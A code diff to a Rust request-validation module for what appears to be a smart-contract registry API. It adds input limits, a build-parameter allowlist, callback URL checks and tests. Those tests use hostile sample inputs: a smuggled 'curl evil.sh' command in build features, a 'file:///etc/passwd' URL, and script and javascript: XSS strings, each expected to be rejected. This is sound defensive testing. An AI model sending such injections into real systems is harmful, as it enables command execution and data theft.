@@ -4,18 +4,22 @@
 //! that need validation when received from clients.
 
 use shared::models::{
-    CreateMigrationRequest, DependencyDeclaration, PublishRequest, UpdateMigrationStatusRequest,
-    VerifyRequest,
+    CreateContractVersionRequest, CreateInteractionBatchRequest, CreateInteractionRequest,
+    CreateMigrationRequest, CreateSecurityPatchRequest, DependencyDeclaration,
+    ImportVersionsRequest, PublishRequest, UpdateMigrationStatusRequest, VerifyRequest,
 };
 
 use super::extractors::{FieldError, Validatable, ValidationBuilder};
+use super::policy::{DESCRIPTION_POLICY, IDENTIFIER_POLICY, RELEASE_NOTES_POLICY};
 use super::sanitizers::{
     normalize_contract_id, normalize_stellar_address, sanitize_description_optional, sanitize_name,
-    sanitize_tags, sanitize_url_optional, trim,
+    sanitize_tags, sanitize_text_optional, sanitize_url_optional, trim, trim_optional,
 };
 use super::validators::{
-    validate_contract_id, validate_json_depth, validate_length, validate_no_xss, validate_semver,
+    validate_callback_url, validate_contract_id, validate_git_reference, validate_json_size,
+    validate_length, validate_semver, validate_semver_range, validate_signature_algorithm_optional,
     validate_source_code_size, validate_stellar_address, validate_tags, validate_url_optional,
+    JsonLimits,
 };
 
 // ─────────────────────────────────────────────────────────────────────────────
@@ -28,14 +32,28 @@ const MAX_NAME_LENGTH: usize = 255;
 const MIN_NAME_LENGTH: usize = 1;
 /// Maximum length for description
 const MAX_DESCRIPTION_LENGTH: usize = 5000;
+/// Maximum length for a version's release notes
+const MAX_RELEASE_NOTES_LENGTH: usize = 20_000;
 /// Maximum number of tags allowed
-const MAX_TAGS_COUNT: usize = 10;
+pub const MAX_TAGS_COUNT: usize = 10;
 /// Maximum length for each tag
-const MAX_TAG_LENGTH: usize = 50;
+pub const MAX_TAG_LENGTH: usize = 50;
 /// Maximum source code size (1 MB)
 const MAX_SOURCE_CODE_BYTES: usize = 1024 * 1024;
 /// Maximum JSON nesting depth
 const MAX_JSON_DEPTH: usize = 10;
+/// Bounds for free-form JSON payloads (`build_params`, `parameters`, `return_value`)
+const PAYLOAD_JSON_LIMITS: JsonLimits = JsonLimits {
+    max_depth: MAX_JSON_DEPTH,
+    max_nodes: 10_000,
+    max_array_len: 1_000,
+};
+/// Bounds for contract ABIs, which legitimately nest and list more than payloads
+const ABI_JSON_LIMITS: JsonLimits = JsonLimits {
+    max_depth: 32,
+    max_nodes: 100_000,
+    max_array_len: 5_000,
+};
 /// Maximum length for category
 const MAX_CATEGORY_LENGTH: usize = 100;
 /// Maximum length for wasm hash
@@ -44,8 +62,14 @@ const MAX_WASM_HASH_LENGTH: usize = 64;
 const MAX_DEPENDENCY_NAME_LENGTH: usize = 255;
 /// Maximum length for version constraint
 const MAX_VERSION_CONSTRAINT_LENGTH: usize = 100;
+/// Maximum length for a security patch's target version or hash
+const MAX_PATCH_TARGET_LENGTH: usize = 50;
+/// Maximum length for a security patch's vulnerable version range
+const MAX_VERSION_RANGE_LENGTH: usize = 255;
 /// Maximum number of dependencies
 const MAX_DEPENDENCIES_COUNT: usize = 50;
+/// Maximum number of versions in one history import
+const MAX_IMPORTED_VERSIONS: usize = 500;
 
 // ─────────────────────────────────────────────────────────────────────────────
 // PublishRequest validation
@@ -101,14 +125,14 @@ impl Validatable for PublishRequest {
         });
 
         // name: no XSS patterns
-        builder.check("name", || validate_no_xss(&self.name));
+        builder.check("name", || IDENTIFIER_POLICY.check(&self.name));
 
         // description: optional, max 5000 characters
         if let Some(ref desc) = self.description {
             builder.check("description", || {
                 validate_length(desc, 0, MAX_DESCRIPTION_LENGTH)
             });
-            builder.check("description", || validate_no_xss(desc));
+            builder.check("description", || DESCRIPTION_POLICY.check(desc));
         }
 
         // publisher_address: required, valid Stellar address
@@ -122,7 +146,7 @@ impl Validatable for PublishRequest {
         // category: optional, max length
         if let Some(ref cat) = self.category {
             builder.check("category", || validate_length(cat, 1, MAX_CATEGORY_LENGTH));
-            builder.check("category", || validate_no_xss(cat));
+            builder.check("category", || IDENTIFIER_POLICY.check(cat));
         }
 
         // tags: max count, each max length
@@ -187,6 +211,13 @@ impl Validatable for VerifyRequest {
 
         // Sanitize JSON build params
         super::sanitizers::sanitize_json_value(&mut self.build_params);
+
+        if let Some(reference) = &mut self.source_reference {
+            reference.git_url = trim(&reference.git_url);
+            reference.commit = trim(&reference.commit).to_ascii_lowercase();
+        }
+
+        trim_optional(&mut self.callback_url);
     }
 
     fn validate(&self) -> Result<(), Vec<FieldError>> {
@@ -211,15 +242,192 @@ impl Validatable for VerifyRequest {
             validate_semver(&self.compiler_version)
         });
 
-        // build_params: validate JSON depth
+        // build_params: bounded depth and size
         builder.check("build_params", || {
-            validate_json_depth(&self.build_params, MAX_JSON_DEPTH)
+            validate_json_size(&self.build_params, PAYLOAD_JSON_LIMITS)
+        });
+
+        // build_params.features / profile: forwarded to cargo, so allowlisted
+        builder.check("build_params.features", || {
+            verifier::build_params::validate_features(&self.build_params)
         });
+        builder.check("build_params.profile", || {
+            let config = verifier::VerifierConfig::from_env();
+            verifier::build_params::validate_profile(&self.build_params, &config.custom_profiles)
+        });
+
+        // source_reference: provenance for precompiled artifacts only
+        if let Some(reference) = &self.source_reference {
+            builder.check("source_reference", || {
+                if !verifier::is_precompiled(&self.source_code) {
+                    return Err(
+                        "source_reference is only accepted with wasm_base64: artifacts".to_string(),
+                    );
+                }
+                validate_git_reference(&reference.git_url, &reference.commit)
+            });
+        }
+
+        if let Some(url) = &self.callback_url {
+            builder.check("callback_url", || validate_callback_url(url));
+        }
 
         builder.build()
     }
 }
 
+// ─────────────────────────────────────────────────────────────────────────────
+// CreateContractVersionRequest validation
+// ─────────────────────────────────────────────────────────────────────────────
+
+impl Validatable for CreateContractVersionRequest {
+    fn sanitize(&mut self) {
+        self.contract_id = trim(&self.contract_id);
+        self.version = trim(&self.version);
+        self.wasm_hash = trim(&self.wasm_hash);
+        sanitize_text_optional(&mut self.release_notes, RELEASE_NOTES_POLICY);
+        trim_optional(&mut self.signature_algorithm);
+        if let Some(algo) = &mut self.signature_algorithm {
+            *algo = algo.to_ascii_lowercase();
+        }
+    }
+
+    fn validate(&self) -> Result<(), Vec<FieldError>> {
+        let mut builder = ValidationBuilder::new();
+
+        // abi: bounded depth and size
+        builder.check("abi", || validate_json_size(&self.abi, ABI_JSON_LIMITS));
+
+        // release_notes: optional Markdown, bounded
+        if let Some(notes) = &self.release_notes {
+            builder.check("release_notes", || {
+                validate_length(notes, 0, MAX_RELEASE_NOTES_LENGTH)
+            });
+            builder.check("release_notes", || RELEASE_NOTES_POLICY.check(notes));
+        }
+
+        // signature_algorithm: known set only; None means unsigned
+        builder.check("signature_algorithm", || {
+            validate_signature_algorithm_optional(&self.signature_algorithm)
+        });
+
+        builder.build()
+    }
+}
+
+// ─────────────────────────────────────────────────────────────────────────────
+// ImportVersionsRequest validation
+// ─────────────────────────────────────────────────────────────────────────────
+
+impl Validatable for ImportVersionsRequest {
+    fn sanitize(&mut self) {
+        for entry in &mut self.versions {
+            entry.version = trim(&entry.version);
+            entry.wasm_hash = trim(&entry.wasm_hash);
+            sanitize_url_optional(&mut entry.source_url);
+            trim_optional(&mut entry.commit_hash);
+            sanitize_text_optional(&mut entry.release_notes, RELEASE_NOTES_POLICY);
+        }
+    }
+
+    fn validate(&self) -> Result<(), Vec<FieldError>> {
+        let mut builder = ValidationBuilder::new();
+
+        builder.check("versions", || {
+            if self.versions.is_empty() {
+                return Err("at least one version is required".to_string());
+            }
+            if self.versions.len() > MAX_IMPORTED_VERSIONS {
+                return Err(format!(
+                    "at most {} versions can be imported at once",
+                    MAX_IMPORTED_VERSIONS
+                ));
+            }
+            Ok(())
+        });
+
+        for (i, entry) in self.versions.iter().enumerate() {
+            builder.check(&format!("versions[{}].version", i), || {
+                validate_semver(&entry.version)
+            });
+            builder.check(&format!("versions[{}].wasm_hash", i), || {
+                if entry.wasm_hash.is_empty() {
+                    return Err("wasm_hash is required".to_string());
+                }
+                validate_length(&entry.wasm_hash, 1, MAX_WASM_HASH_LENGTH)
+            });
+            builder.check(&format!("versions[{}].abi", i), || {
+                validate_json_size(&entry.abi, ABI_JSON_LIMITS)
+            });
+            builder.check(&format!("versions[{}].source_url", i), || {
+                validate_url_optional(&entry.source_url)
+            });
+            if let Some(notes) = &entry.release_notes {
+                builder.check(&format!("versions[{}].release_notes", i), || {
+                    validate_length(notes, 0, MAX_RELEASE_NOTES_LENGTH)?;
+                    RELEASE_NOTES_POLICY.check(notes)
+                });
+            }
+        }
+
+        builder.build()
+    }
+}
+
+// ─────────────────────────────────────────────────────────────────────────────
+// CreateInteractionRequest validation
+// ─────────────────────────────────────────────────────────────────────────────
+
+fn check_interaction(
+    builder: &mut ValidationBuilder,
+    prefix: &str,
+    req: &CreateInteractionRequest,
+) {
+    if let Some(parameters) = &req.parameters {
+        builder.check(&format!("{}parameters", prefix), || {
+            validate_json_size(parameters, PAYLOAD_JSON_LIMITS)
+        });
+    }
+    if let Some(return_value) = &req.return_value {
+        builder.check(&format!("{}return_value", prefix), || {
+            validate_json_size(return_value, PAYLOAD_JSON_LIMITS)
+        });
+    }
+}
+
+impl Validatable for CreateInteractionRequest {
+    fn sanitize(&mut self) {
+        trim_optional(&mut self.method);
+        trim_optional(&mut self.account);
+    }
+
+    fn validate(&self) -> Result<(), Vec<FieldError>> {
+        let mut builder = ValidationBuilder::new();
+        check_interaction(&mut builder, "", self);
+        builder.build()
+    }
+}
+
+impl Validatable for CreateInteractionBatchRequest {
+    fn sanitize(&mut self) {
+        for interaction in &mut self.interactions {
+            interaction.sanitize();
+        }
+    }
+
+    fn validate(&self) -> Result<(), Vec<FieldError>> {
+        let mut builder = ValidationBuilder::new();
+        for (idx, interaction) in self.interactions.iter().enumerate() {
+            check_interaction(
+                &mut builder,
+                &format!("interactions[{}].", idx),
+                interaction,
+            );
+        }
+        builder.build()
+    }
+}
+
 // ─────────────────────────────────────────────────────────────────────────────
 // CreateMigrationRequest validation
 // ─────────────────────────────────────────────────────────────────────────────
@@ -246,6 +454,57 @@ impl Validatable for CreateMigrationRequest {
     }
 }
 
+// ─────────────────────────────────────────────────────────────────────────────
+// CreateSecurityPatchRequest validation
+// ─────────────────────────────────────────────────────────────────────────────
+
+impl Validatable for CreateSecurityPatchRequest {
+    fn sanitize(&mut self) {
+        self.target_version = trim(&self.target_version);
+        self.vulnerable_range = trim(&self.vulnerable_range);
+        self.new_wasm_hash = trim(&self.new_wasm_hash);
+        sanitize_description_optional(&mut self.description);
+    }
+
+    fn validate(&self) -> Result<(), Vec<FieldError>> {
+        let mut builder = ValidationBuilder::new();
+
+        builder.check("target_version", || {
+            if self.target_version.is_empty() {
+                return Err("target_version is required".to_string());
+            }
+            validate_length(&self.target_version, 1, MAX_PATCH_TARGET_LENGTH)
+        });
+
+        builder.check("vulnerable_range", || {
+            validate_length(&self.vulnerable_range, 1, MAX_VERSION_RANGE_LENGTH)?;
+            validate_semver_range(&self.vulnerable_range)
+        });
+
+        builder.check("new_wasm_hash", || {
+            if self.new_wasm_hash.is_empty() {
+                return Err("new_wasm_hash is required".to_string());
+            }
+            validate_length(&self.new_wasm_hash, 1, MAX_WASM_HASH_LENGTH)
+        });
+
+        builder.check_condition(
+            !(0..=100).contains(&self.rollout_percentage),
+            "rollout_percentage",
+            "rollout_percentage must be between 0 and 100",
+        );
+
+        if let Some(ref desc) = self.description {
+            builder.check("description", || {
+                validate_length(desc, 0, MAX_DESCRIPTION_LENGTH)
+            });
+            builder.check("description", || DESCRIPTION_POLICY.check(desc));
+        }
+
+        builder.build()
+    }
+}
+
 // ─────────────────────────────────────────────────────────────────────────────
 // UpdateMigrationStatusRequest validation
 // ─────────────────────────────────────────────────────────────────────────────
@@ -308,7 +567,7 @@ mod tests {
     }
 
     fn valid_stellar_address() -> String {
-        "GDLZFC3SYJYDZT7K67VZ75HPJVIEUVNIXF47ZG2FB2RMQQVU2HHGCYSC".to_string()
+        "GBRPYHIL2CI3FNQ4BXLFMNDLFJUNPU2HY3ZMFSHONUCEOASW7QC7OX2H".to_string()
     }
 
     #[test]
@@ -378,7 +637,7 @@ mod tests {
             category: Some("  DeFi  ".to_string()),
             tags: vec!["  token  ".to_string(), "<b>defi</b>".to_string()],
             source_url: Some("  https://github.com/user/repo  ".to_string()),
-            publisher_address: "  gdlzfc3syjydzt7k67vz75hpjvieuvnixf47zg2fb2rmqqvu2hhgcysc  "
+            publisher_address: "  gbrpyhil2ci3fnq4bxlfmndlfjunpu2hy3zmfshonuceoasw7qc7ox2h  "
                 .to_string(),
             dependencies: vec![],
         };
@@ -391,8 +650,8 @@ mod tests {
         // Name should be trimmed with HTML stripped
         assert_eq!(req.name, "My Contract");
 
-        // Description should have HTML stripped
-        assert_eq!(req.description, Some("alert('xss')Description".to_string()));
+        // Description is Markdown: scripts are dropped with their content
+        assert_eq!(req.description, Some("Description".to_string()));
 
         // Publisher address should be uppercase and trimmed
         assert_eq!(req.publisher_address, valid_stellar_address());
@@ -417,6 +676,9 @@ mod tests {
             source_code: "fn main() {}".to_string(),
             build_params: serde_json::json!({"optimize": true}),
             compiler_version: "1.0.0".to_string(),
+            source_reference: None,
+            network: None,
+            callback_url: None,
         };
 
         assert!(req.validate().is_ok());
@@ -429,6 +691,9 @@ mod tests {
             source_code: "".to_string(),
             build_params: serde_json::json!({}),
             compiler_version: "1.0.0".to_string(),
+            source_reference: None,
+            network: None,
+            callback_url: None,
         };
 
         let result = req.validate();
@@ -444,6 +709,9 @@ mod tests {
             source_code: "fn main() {}".to_string(),
             build_params: serde_json::json!({}),
             compiler_version: "not-a-version".to_string(),
+            source_reference: None,
+            network: None,
+            callback_url: None,
         };
 
         let result = req.validate();
@@ -452,6 +720,168 @@ mod tests {
         assert!(errors.iter().any(|e| e.field == "compiler_version"));
     }
 
+    #[test]
+    fn test_interaction_batch_reports_oversized_payload_path() {
+        let req = CreateInteractionBatchRequest {
+            interactions: vec![
+                CreateInteractionRequest {
+                    account: None,
+                    method: Some("transfer".to_string()),
+                    transaction_hash: None,
+                    parameters: Some(serde_json::json!({ "amount": 10 })),
+                    return_value: None,
+                    timestamp: None,
+                },
+                CreateInteractionRequest {
+                    account: None,
+                    method: Some("spam".to_string()),
+                    transaction_hash: None,
+                    parameters: Some(serde_json::json!(vec![0; 5_000])),
+                    return_value: None,
+                    timestamp: None,
+                },
+            ],
+        };
+
+        let errors = req.validate().unwrap_err();
+        assert_eq!(errors.len(), 1);
+        assert_eq!(errors[0].field, "interactions[1].parameters");
+    }
+
+    #[test]
+    fn test_verify_request_build_params_features() {
+        let mut req = VerifyRequest {
+            contract_id: valid_contract_id(),
+            source_code: "fn main() {}".to_string(),
+            build_params: serde_json::json!({ "features": ["testutils", "alloc"], "profile": "release" }),
+            compiler_version: "1.0.0".to_string(),
+            source_reference: None,
+            network: None,
+            callback_url: None,
+        };
+        assert!(req.validate().is_ok());
+
+        req.build_params =
+            serde_json::json!({ "features": ["testutils && curl evil.sh"], "profile": "bench" });
+        let errors = req.validate().unwrap_err();
+        assert!(errors.iter().any(|e| e.field == "build_params.features"));
+        assert!(errors.iter().any(|e| e.field == "build_params.profile"));
+    }
+
+    #[test]
+    fn test_verify_request_callback_url_scheme() {
+        let mut req = VerifyRequest {
+            contract_id: valid_contract_id(),
+            source_code: "fn main() {}".to_string(),
+            build_params: serde_json::json!({}),
+            compiler_version: "1.0.0".to_string(),
+            source_reference: None,
+            network: None,
+            callback_url: Some("https://ci.example.com/hooks/verify".to_string()),
+        };
+        assert!(req.validate().is_ok());
+
+        req.callback_url = Some("http://localhost:8080/hook".to_string());
+        assert!(req.validate().is_ok());
+
+        for url in [
+            "http://ci.example.com/hook",
+            "ftp://ci.example.com/hook",
+            "file:///etc/passwd",
+            "not a url",
+        ] {
+            req.callback_url = Some(url.to_string());
+            let errors = req.validate().unwrap_err();
+            assert_eq!(errors[0].field, "callback_url", "{}", url);
+        }
+    }
+
+    fn version_request(signature_algorithm: Option<&str>) -> CreateContractVersionRequest {
+        CreateContractVersionRequest {
+            contract_id: valid_contract_id(),
+            version: "1.0.0".to_string(),
+            wasm_hash: "abc123".to_string(),
+            abi: serde_json::json!([]),
+            source_url: None,
+            commit_hash: None,
+            release_notes: None,
+            signature: None,
+            publisher_key: None,
+            signature_algorithm: signature_algorithm.map(str::to_string),
+            draft: false,
+        }
+    }
+
+    #[test]
+    fn test_signature_algorithm_is_normalized() {
+        let mut req = version_request(Some(" Ed25519 "));
+        req.sanitize();
+        assert_eq!(req.signature_algorithm.as_deref(), Some("ed25519"));
+        assert!(req.validate().is_ok());
+    }
+
+    #[test]
+    fn test_signature_algorithm_unknown_is_rejected() {
+        let mut req = version_request(Some("rsa-sha256"));
+        req.sanitize();
+        let errors = req.validate().unwrap_err();
+        assert_eq!(errors.len(), 1);
+        assert_eq!(errors[0].field, "signature_algorithm");
+    }
+
+    #[test]
+    fn test_signature_algorithm_unsigned() {
+        let mut req = version_request(None);
+        req.sanitize();
+        assert!(req.validate().is_ok());
+
+        // A blank value is treated the same as omitting it
+        let mut req = version_request(Some("  "));
+        req.sanitize();
+        assert_eq!(req.signature_algorithm, None);
+        assert!(req.validate().is_ok());
+    }
+
+    #[test]
+    fn test_release_notes_keep_markdown() {
+        let mut req = version_request(None);
+        req.release_notes = Some(
+            "  **bold** fix for `x < y`<script>alert('xss')</script>\n- <i>item</i>  ".to_string(),
+        );
+        req.sanitize();
+        assert_eq!(
+            req.release_notes.as_deref(),
+            Some("**bold** fix for `x < y`\n- item")
+        );
+        assert!(req.validate().is_ok());
+
+        let mut req = version_request(None);
+        req.release_notes = Some("[changelog](javascript:alert(1))".to_string());
+        req.sanitize();
+        let errors = req.validate().unwrap_err();
+        assert_eq!(errors[0].field, "release_notes");
+    }
+
+    #[test]
+    fn test_name_stays_strict() {
+        let mut req = PublishRequest {
+            contract_id: valid_contract_id(),
+            name: "**Token** onload=x".to_string(),
+            description: Some("Uses `a < b` in **bold**".to_string()),
+            network: Network::Testnet,
+            category: None,
+            tags: vec![],
+            source_url: None,
+            publisher_address: valid_stellar_address(),
+            dependencies: vec![],
+        };
+        req.sanitize();
+        let errors = req.validate().unwrap_err();
+        assert_eq!(errors.len(), 1);
+        assert_eq!(errors[0].field, "name");
+        assert_eq!(req.description.as_deref(), Some("Uses `a < b` in **bold**"));
+    }
+
     #[test]
     fn test_too_many_tags() {
         let req = PublishRequest {